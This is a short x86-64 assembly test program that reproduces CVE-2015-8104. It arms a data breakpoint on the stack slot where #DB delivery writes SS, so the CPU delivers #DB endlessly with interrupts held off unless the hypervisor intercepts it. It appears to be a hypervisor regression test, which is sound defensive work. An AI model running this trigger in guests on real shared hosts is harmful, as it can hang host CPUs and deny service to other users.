; A data breakpoint on the stack on which #DB is delivered: the CPU's microcode then delivers it for ever, with all
; interrupts held up, unless the hypervisor intercepts #DB (CVE-2015-8104).
%include "lib/long64.inc"
start:
    on 1, debug
    say "loops in #DB"
    mov rbx, rsp
    and rbx, -16
    sub rbx, 8                  ; here delivery writes SS
    mov dr0, rbx
    mov eax, 0x00090403         ; DR0: on, writes, 8 bytes
    mov dr7, rax
.again:
    mov [rbx], rax
    jmp .again
debug:
    iretq
